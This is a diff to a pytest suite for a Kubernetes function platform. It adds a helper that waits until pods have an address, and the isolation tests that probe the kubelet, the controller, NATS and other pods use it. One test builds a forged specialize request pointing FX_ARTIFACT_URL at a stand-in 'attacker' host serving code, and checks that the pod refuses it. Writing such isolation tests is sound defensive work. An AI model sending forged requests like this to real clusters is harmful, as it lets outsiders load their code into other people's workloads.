@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import json
 import shutil
+import time
 from pathlib import Path
 
 import pytest
@@ -107,6 +108,15 @@ def _pods(kube: Kube, selector: str) -> list[dict]:
     return [p for p in kube.get("pods", "-l", selector)["items"] if not p["metadata"].get("deletionTimestamp")]
 
 
+def _running(kube: Kube, selector: str) -> list[dict]:
+    """The pods with an address (a pool pod just made to replace a taken one may not have one yet)."""
+    deadline = time.monotonic() + 60
+    while not (found := [p for p in _pods(kube, selector) if p["status"].get("podIP")]):
+        assert time.monotonic() < deadline, f"no pod with an address for {selector}"
+        time.sleep(0.5)
+    return found
+
+
 @pytest.fixture(scope="module")
 def victim(kube: Kube, fx) -> str:
     """Another function, kept running (scale.min 1) so its pod is there to be aimed at."""
@@ -130,8 +140,8 @@ def _targets(kube: Kube, victim: str) -> dict:
             "kubelet": [node_ip, 10250],
             "controller admin port": [controller, 8081],
             "NATS without a grant": [f"{RELEASE}-nats", 4222],
-            "another function's pod": [_pods(kube, f"fx.dev/function={victim}")[0]["status"]["podIP"], 8080],
-            "an idle pool pod": [_pods(kube, "fx.dev/pool=true")[0]["status"]["podIP"], 8080],
+            "another function's pod": [_running(kube, f"fx.dev/function={victim}")[0]["status"]["podIP"], 8080],
+            "an idle pool pod": [_running(kube, "fx.dev/pool=true")[0]["status"]["podIP"], 8080],
         },
         "http": {
             "another function's code": [
@@ -167,7 +177,7 @@ def test_a_function_pod_reaches_only_what_it_needs(kube: Kube, fx, victim, probe
 
 def test_an_idle_pool_pod_rung_by_anyone_but_the_controller_stays_in_the_pool(kube: Kube, fx) -> None:
     """The node can reach a pool pod (the kubelet probes it); its doorbell still makes nothing of the pod."""
-    pool_pod = _pods(kube, "fx.dev/pool=true")[0]
+    pool_pod = _running(kube, "fx.dev/pool=true")[0]
     ip, name = pool_pod["status"]["podIP"], pool_pod["metadata"]["name"]
     forged = {"env": {"_HANDLER": "handler.handler", "FX_ARTIFACT_URL": "http://attacker/code.zip"}}
     status, body = http("POST", f"http://{ip}:8080/_fx/specialize", json.dumps(forged).encode(), timeout=15)
@@ -224,7 +234,7 @@ def test_the_deployable_probe_finds_every_attack_blocked(kube: Kube, fx, victim,
     node = kube.get("nodes")["items"][0]
     hints = {
         "node_ip": next(a["address"] for a in node["status"]["addresses"] if a["type"] == "InternalIP"),
-        "pool_ips": ",".join(p["status"]["podIP"] for p in _pods(kube, "fx.dev/pool=true")),
+        "pool_ips": ",".join(p["status"]["podIP"] for p in _running(kube, "fx.dev/pool=true")),
         "controller": f"{RELEASE}-controller",
     }
     report = _invoke(fx, "fx-probe", hints)
